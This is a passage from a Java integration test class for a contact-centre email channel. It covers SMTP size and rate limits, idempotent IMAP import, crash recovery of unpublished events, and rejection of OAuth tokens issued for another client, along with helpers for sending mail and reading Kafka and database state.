                .satisfies(e -> assertThat(smtpCode(e)).isEqualTo(550));

        String big = "x".repeat(76) + "\r\n";
        String oversized = simple(sender, SUPPORT, messageId("big"), "Big", big.repeat(300_000 / big.length()));
        assertThatThrownBy(() -> send(sender, List.of(SUPPORT), oversized))
                .isInstanceOf(MessagingException.class)
                .satisfies(e -> assertThat(smtpCode(e)).isEqualTo(552));

        String fine = messageId("fine-after-refusals");
        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, fine, "Still there?", "yes"));
        eventsFor(fine, 2);
    }

    @Test
    void oneSenderCannotFloodTheChannel() throws Exception {
        String flood = sender("flood");
        int limit = ConfigProvider.getConfig().getValue("switchboard.email.smtp.messages-per-sender-per-minute", Integer.class);
        List<Integer> refusals = new ArrayList<>();
        // 2 x limit + 1 attempts within one minute span at most two windows, so at least one is refused.
        for (int i = 0; i <= 2 * limit && refusals.isEmpty(); i++) {
            try {
                send(flood, List.of(SUPPORT), simple(flood, SUPPORT, messageId("flood-" + i), "Flood " + i, "again"));
            } catch (MessagingException e) {
                refusals.add(smtpCode(e));
            }
        }
        assertThat(refusals).containsExactly(450);
    }

    @Test
    void aPolledMailboxImportsEachMessageOnceEvenWhenAPollerRestartRepeatsIt() throws Exception {
        String sender = sender("imap");
        String messageId = messageId("imap");
        MimeMessage message = new MimeMessage(session(), new ByteArrayInputStream(
                crlf(simple(sender, GreenMailResource.MAILBOX_ADDRESS, messageId, "Claim 42", "Please process my claim"))
                        .getBytes(StandardCharsets.UTF_8)));
        GreenMailResource.greenMail().getUserManager().getUser(GreenMailResource.MAILBOX_USER).deliver(message);

        List<ContactEvent> events = eventsFor(messageId, 2);
        assertThat(((ContactCreated) events.get(0)).entryPoint()).isEqualTo(GreenMailResource.MAILBOX_ADDRESS);
        assertThat(events.get(0).tenantId()).isEqualTo("acme-bank");
        await().atMost(WAIT).until(() -> count("INBOX", messageId) == 0 && count("Processed", messageId) == 1);

        // A crash between import and move leaves the message in the inbox: put it back and restart the poller.
        poller.stop();
        withMailbox(store -> {
            Folder inbox = store.getFolder("INBOX");
            inbox.open(Folder.READ_WRITE);
            inbox.appendMessages(new Message[] {message});
            inbox.close(false);
        });
        assertThat(count("INBOX", messageId)).isEqualTo(1);
        poller.start();
        await().atMost(WAIT).until(() -> count("INBOX", messageId) == 0 && count("Processed", messageId) == 2);

        String sentinel = messageId("imap-sentinel");
        send(sender, List.of(SUPPORT), simple(sender, SUPPORT, sentinel, "Later", "a later message"));
        eventsFor(sentinel, 2);
        assertThat(allEvents(e -> messageId.equals(header(e)))).as("imported once").hasSize(2);
    }

    @Test
    void aMessageStoredButNeverAcknowledgedIsPublishedByTheSweeper() throws Exception {
        // The state a crash between the commit and the broker's acknowledgement leaves behind.
        String sender = sender("crash");
        String messageId = messageId("crash");
        String contactId = UUID.randomUUID().toString();
        UUID emailId = UUID.randomUUID();
        ContactCreated event = new ContactCreated(UUID.randomUUID(), "acme-bank", Instant.now(), contactId, Channel.EMAIL,
                io.switchboard.events.Direction.INBOUND, SUPPORT, io.switchboard.events.address.Address.email(sender),
                io.switchboard.events.address.Address.email(SUPPORT), Map.of(), "Lost?", "stored before a crash", List.of(),
                null, 0, Map.of("messageIdHeader", messageId));
        try (Connection c = connection()) {
            execute(c, "INSERT INTO email.email_thread (contact_id, tenant_id, mailbox_address, customer_address, subject, created_at)"
                    + " VALUES (?, 'acme-bank', ?, ?, 'Lost?', now())", contactId, SUPPORT, sender);
            execute(c, "INSERT INTO email.inbound_email (id, tenant_id, message_id, contact_id, source, mailbox_address, subject,"
                    + " text_body, raw, status, received_at) VALUES (?::uuid, 'acme-bank', ?, ?, 'smtp', ?, 'Lost?', 'x',"
                    + " 'raw'::bytea, 'PENDING', now() - interval '1 minute')", emailId.toString(), messageId, contactId, SUPPORT);
            try (PreparedStatement s = c.prepareStatement("INSERT INTO email.inbound_event (email_id, seq, topic, event_key, payload)"
                    + " VALUES (?::uuid, 0, ?, ?, ?)")) {
                s.setString(1, emailId.toString());
                s.setString(2, Topics.CONTACTS);
                s.setString(3, contactId);
                s.setBytes(4, EventCodec.encode(event, SOURCE));
                s.executeUpdate();
            }
        }

        assertThat(eventsFor(messageId, 1)).singleElement().extracting(ContactEvent::eventId).isEqualTo(event.eventId());
        await().atMost(WAIT).until(() -> "PUBLISHED".equals(status(messageId)));
    }

    // --- helpers ---

    private String sender(String name) {
        return name + "-" + run + "@customer.example";
    }

    private String messageId(String name) {
        return "<" + name + "-" + run + "@customer.example>";
    }

    private static String simple(String from, String to, String messageId, String subject, String text) {
        return "From: " + from + "\nTo: " + to + "\nSubject: " + subject + "\nMessage-ID: " + messageId
                + "\nContent-Type: text/plain; charset=utf-8\n\n" + text + "\n";
    }

    /** A customer's answer to {@value #SUPPORT}: In-Reply-To, and References when given. */
    private static String reply(String from, String messageId, String subject, String inReplyTo, String references, String text) {
        return "From: " + from + "\nTo: " + SUPPORT + "\nSubject: " + subject + "\nMessage-ID: " + messageId
                + "\nIn-Reply-To: " + inReplyTo + (references.isEmpty() ? "" : "\nReferences: " + references)
                + "\nContent-Type: text/plain; charset=utf-8\n\n" + text + "\n";
    }

    private static String crlf(String message) {
        return message.replace("\r\n", "\n").replace("\n", "\r\n");
    }

    /**
     * Routing assigns the contact to the agent (contact.assigned on the routing topic); returns once the
     * channel recorded it, that is once the agent reads the thread. Events of one contact share a
     * partition, so earlier offers of the same contact are recorded by then too.
     */
    private void assignTo(String contactId, String agent) {
        publish(new ContactAssigned(UUID.randomUUID(), "acme-bank", Instant.now(), contactId, Channel.EMAIL, "billing", agent,
                "o-" + agent));
        await().atMost(WAIT).untilAsserted(() -> as(agent).get("/api/contacts/{id}/emails", contactId).then().statusCode(200));
    }

    private static RequestSpecification as(String user) {
        return given().auth().oauth2(KeycloakServer.shared().accessToken(user));
    }

    private Session session() {
        Properties properties = new Properties();
        properties.setProperty("mail.smtp.host", "127.0.0.1");
        properties.setProperty("mail.smtp.port", String.valueOf(smtp.port()));
        return Session.getInstance(properties);
    }

    private void send(String envelopeSender, List<String> recipients, String raw) throws MessagingException {
        send(envelopeSender, recipients,
                new MimeMessage(session(), new ByteArrayInputStream(crlf(raw).getBytes(StandardCharsets.UTF_8))));
    }

    private void send(String envelopeSender, List<String> recipients, MimeMessage message) throws MessagingException {
        Session session = session();
        session.getProperties().setProperty("mail.smtp.from", envelopeSender.isEmpty() ? "<>" : envelopeSender);
        try (Transport transport = session.getTransport("smtp")) {
            transport.connect();
            InternetAddress[] to = recipients.stream().map(EmailChannelServiceTest::address).toArray(InternetAddress[]::new);
            // sendMessage (not Transport.send) keeps the bytes as written, Message-ID included.
            transport.sendMessage(message, to);
        }
    }

    /** A text and one PDF from {@code sender} to the support mailbox; returns its {@code contact.message.received}. */
    private ContactMessageReceived sendWithPdf(String sender, String messageId, String subject, String text, String filename, byte[] pdf)
            throws MessagingException {
        MimeBodyPart file = new MimeBodyPart();
        file.setDataHandler(new DataHandler(new ByteArrayDataSource(pdf, "application/pdf")));
        file.setFileName(filename);
        MimeMultipart mixed = new MimeMultipart("mixed");
        mixed.addBodyPart(textPart(text, "plain"));
        mixed.addBodyPart(file);
        MimeMessage message = message(sender, SUPPORT, messageId, subject);
        message.setContent(mixed);
        message.saveChanges();
        message.setHeader("Message-ID", messageId);
        send(sender, List.of(SUPPORT), message);
        return (ContactMessageReceived) eventsFor(messageId, 2).get(1);
    }

    private MimeMessage message(String from, String to, String messageId, String subject) throws MessagingException {
        MimeMessage message = new MimeMessage(session());
        message.setFrom(new InternetAddress(from));
        message.setRecipients(Message.RecipientType.TO, to);
        message.setSubject(subject, "UTF-8");
        message.setHeader("Message-ID", messageId);
        return message;
    }

    private static MimeBodyPart textPart(String text, String subtype) throws MessagingException {
        MimeBodyPart part = new MimeBodyPart();
        part.setText(text, "UTF-8", subtype);
        return part;
    }

    private static InternetAddress address(String value) {
        try {
            return new InternetAddress(value);
        } catch (MessagingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    private static int smtpCode(Throwable e) {
        for (Throwable t = e; t != null; t = t instanceof MessagingException m && m.getNextException() != null
                ? m.getNextException() : t.getCause()) {
            if (t instanceof SMTPAddressFailedException failed) {
                return failed.getReturnCode();
            }
            if (t instanceof SMTPSendFailedException failed) {
                return failed.getReturnCode();
            }
        }
        throw new AssertionError("no SMTP reply code in " + e, e);
    }

    private void publish(SwitchboardEvent event) {
        kafka.send(EventType.topicOf(event), event.subject(), EventCodec.encode(event, SOURCE),
                Map.of("content-type", OutgoingEvents.CONTENT_TYPE));
    }

    private static String header(ContactEvent event) {
        Map<String, String> metadata = event instanceof ContactCreated c ? c.metadata()
                : event instanceof ContactMessageReceived r ? r.metadata() : Map.of();
        return metadata.get("messageIdHeader");
    }

    /** The contact events of one inbound Message-ID, in topic order. */
    private List<ContactEvent> eventsFor(String messageIdHeader, int count) {
        return kafka.await(Topics.CONTACTS, record -> decode(record) instanceof ContactEvent e && messageIdHeader.equals(header(e)),
                count, WAIT).stream().map(r -> (ContactEvent) decode(r)).toList();
    }

    private List<ContactEvent> awaitOutcome(String requestId, int count) {
        return kafka.await(Topics.CONTACTS, record -> decode(record) instanceof ContactEvent e
                && (e instanceof ContactMessageSent s && s.messageId().equals(requestId)
                        || e instanceof ContactMessageFailed f && f.messageId().equals(requestId)),
                count, WAIT).stream().map(r -> (ContactEvent) decode(r)).toList();
    }

    /** Every contact event on the topic now that matches. */
    private List<ContactEvent> allEvents(Predicate<ContactEvent> matching) {
        List<ContactEvent> events = new ArrayList<>();
        try (KafkaConsumer<String, byte[]> consumer = new KafkaConsumer<>(Map.of(
                ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class),
                ConsumerConfig.ENABLE_AUTO_COMMIT_CONFIG, false), new StringDeserializer(), new ByteArrayDeserializer())) {
            List<TopicPartition> partitions = consumer.partitionsFor(Topics.CONTACTS).stream()
                    .map(p -> new TopicPartition(p.topic(), p.partition())).toList();
            consumer.assign(partitions);
            consumer.seekToBeginning(partitions);
            Map<TopicPartition, Long> end = consumer.endOffsets(partitions);
            while (partitions.stream().anyMatch(p -> consumer.position(p) < end.get(p))) {
                for (ConsumerRecord<String, byte[]> record : consumer.poll(Duration.ofMillis(200))) {
                    if (decode(record) instanceof ContactEvent event && matching.test(event)) {
                        events.add(event);
                    }
                }
            }
        }
        return events;
    }

    private static SwitchboardEvent decode(ConsumerRecord<String, byte[]> record) {
        return EventCodec.decode(record.value()) instanceof DecodeResult.Decoded decoded ? decoded.event() : null;
    }

    private static List<MimeMessage> relayedTo(String recipient) throws MessagingException {
        List<MimeMessage> found = new ArrayList<>();
        for (MimeMessage message : GreenMailResource.greenMail().getReceivedMessages()) {
            for (var to : message.getAllRecipients()) {
                if (((InternetAddress) to).getAddress().equalsIgnoreCase(recipient)) {
                    found.add(message);
                }
            }
        }
        return found;
    }

    private static List<MimeMessage> awaitRelayed(String recipient, int count) {
        await().atMost(WAIT).until(() -> relayedTo(recipient).size() >= count);
        try {
            return relayedTo(recipient);
        } catch (MessagingException e) {
            throw new IllegalStateException(e);
        }
    }

    private interface MailboxWork {
        void run(Store store) throws Exception;
    }

    private void withMailbox(MailboxWork work) throws Exception {
        Store store = Session.getInstance(new Properties()).getStore("imap");
        store.connect("127.0.0.1", GreenMailResource.greenMail().getImap().getPort(), GreenMailResource.MAILBOX_USER,
                GreenMailResource.MAILBOX_PASSWORD);
        try {
            work.run(store);
        } finally {
            store.close();
        }
    }

    private int count(String folderName, String messageId) throws Exception {
        int[] count = {0};
        withMailbox(store -> {
            Folder folder = store.getFolder(folderName);
            if (!folder.exists()) {
                return;
            }
            folder.open(Folder.READ_ONLY);
            for (Message message : folder.getMessages()) {
                if (!message.isSet(jakarta.mail.Flags.Flag.DELETED)
                        && messageId.equals(((MimeMessage) message).getMessageID())) {
                    count[0]++;
                }
            }
            folder.close(false);
        });
        return count[0];
    }

    private long rawSize(String emailId) throws Exception {
        return queryOne("SELECT length(raw) FROM email.inbound_email WHERE id = ?::uuid", emailId, ResultSet::getLong);
    }

    private String status(String messageId) throws Exception {
        return queryOne("SELECT status FROM email.inbound_email WHERE message_id = ?", messageId, ResultSet::getString);
    }

    private interface Column<T> {
        T read(ResultSet resultSet, int index) throws java.sql.SQLException;
    }

    private static Connection connection() throws java.sql.SQLException {
        var config = ConfigProvider.getConfig();
        return DriverManager.getConnection(config.getValue("quarkus.datasource.jdbc.url", String.class),
                config.getValue("quarkus.datasource.username", String.class),
                config.getValue("quarkus.datasource.password", String.class));
    }

    private static void execute(Connection c, String sql, String... parameters) throws java.sql.SQLException {
        try (PreparedStatement s = c.prepareStatement(sql)) {
            for (int i = 0; i < parameters.length; i++) {
                s.setString(i + 1, parameters[i]);
            }
            s.executeUpdate();
        }
    }

    private static <T> T queryOne(String sql, String parameter, Column<T> column) throws Exception {
        try (Connection c = connection(); PreparedStatement s = c.prepareStatement(sql)) {
            s.setString(1, parameter);
            try (ResultSet r = s.executeQuery()) {
                assertThat(r.next()).as(sql + " with " + parameter).isTrue();
                return column.read(r, 1);
            }
        }
    }

    /** The realm signs tokens for other applications too: only those minted for switchboard-api are taken. */
    @Test
    void aTokenMintedForAnotherClientOfTheRealmIsRefused() {
        String path = "/api/emails/00000000-0000-4000-8000-000000000001";
        io.restassured.RestAssured.given().auth().oauth2(KeycloakServer.shared().accessToken("alice")).get(path)
                .then().statusCode(org.hamcrest.Matchers.not(401));
        io.restassured.RestAssured.given().auth().oauth2(KeycloakServer.shared().foreignClientToken("alice")).get(path)
                .then().statusCode(401);
    }
}
